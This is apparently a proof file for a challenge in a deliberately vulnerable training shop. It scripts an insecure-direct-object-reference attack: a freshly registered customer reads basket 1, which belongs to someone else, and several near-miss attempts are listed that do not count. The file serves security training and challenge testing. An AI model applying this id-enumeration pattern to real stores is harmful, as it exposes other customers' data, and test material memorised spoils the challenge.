import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const readBasket = (attacker: Attacker, id: number) => attacker.get(`/rest/basket/${id}`)

export const proof = prove(challenge, {
  // Basket ids are sequential, so basket 1 belongs to another customer.
  exploit: async (attacker) => {
    const { basketId } = await attacker.becomeCustomer()
    await readBasket(attacker, basketId)
    await readBasket(attacker, 1)
  },
  nearMisses: {
    'the own basket': async (attacker) => {
      const { basketId } = await attacker.becomeCustomer()
      await readBasket(attacker, basketId)
    },
    'a basket that there is not': async (attacker) => {
      const { basketId } = await attacker.becomeCustomer()
      await readBasket(attacker, basketId + 1000)
    },
    'somebody else’s basket, without signing in': (attacker) => readBasket(attacker, 1),
    'words where the number of a basket belongs': async (attacker) => {
      await attacker.becomeCustomer()
      for (const id of ['undefined', 'null', 'NaN']) await attacker.get(`/rest/basket/${id}`)
    },
    'an attempt to order somebody else’s basket': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.post('/rest/basket/1/checkout', {})
    },
  },
})
